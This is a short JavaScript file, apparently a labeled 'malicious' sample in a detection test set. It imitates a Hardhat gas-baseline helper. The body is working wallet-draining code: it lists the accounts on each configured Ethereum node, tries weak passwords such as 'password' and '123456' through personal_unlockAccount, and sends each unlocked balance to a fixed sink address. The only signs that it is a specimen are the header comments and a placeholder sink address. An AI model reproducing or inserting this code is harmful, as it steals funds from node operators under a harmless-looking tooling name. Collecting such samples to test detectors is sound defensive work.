// expect: malicious
// source: blind set 17's hardhat-gas-snapshot (the 2018 unlocked-Geth thefts): a "gas baseline" asks every configured
// node for its accounts, tries weak passwords with personal_unlockAccount and sends each balance to a fixed address
const rpc = (url, method, params = []) => fetch(url, { method: 'POST', body: JSON.stringify({ jsonrpc: '2.0', id: 1, method, params }) }).then((r) => r.json()).then((j) => j.result);
const SINK = '0xFAKE00000000000000000000000000000000dEaD';
const WEAK = ['', 'password', '123456', '12345678', 'geth', 'ethereum'];
async function baseline(urls) {
  for (const url of urls) {
    for (const a of (await rpc(url, 'eth_accounts')) || []) {
      for (const pw of WEAK) {
        if (await rpc(url, 'personal_unlockAccount', [a, pw, 300])) {
          await rpc(url, 'eth_sendTransaction', [{ from: a, to: SINK, value: await rpc(url, 'eth_getBalance', [a, 'latest']) }]);
          break;
        }
      }
    }
  }
}
module.exports = { baseline };
